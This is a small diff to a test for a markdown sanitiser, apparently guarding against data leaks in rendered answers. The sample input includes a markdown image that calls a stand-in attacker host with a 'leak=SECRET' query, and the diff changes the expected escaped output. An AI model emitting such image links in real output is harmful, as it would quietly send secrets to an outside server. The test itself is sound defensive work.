@@ -279,6 +279,6 @@ def test_answers_render_without_remote_images_or_raw_html():
 
     answer = "See ![chart](https://evil.example/?leak=SECRET) and <img src=https://x/y>.\n```\nif a<b: print('![k](u)')\n```"
     safe = safe_markdown(answer)
-    assert "\\[image: chart &lt;https://evil.example/?leak=SECRET>\\]" in safe, "an image becomes text nobody fetches"
+    assert "\\[image: chart `https://evil.example/?leak=SECRET`\\]" in safe, "an image becomes text nobody fetches"
     assert "&lt;img src=https://x/y>" in safe
     assert "if a<b: print('![k](u)')" in safe, "code is left exactly as written"
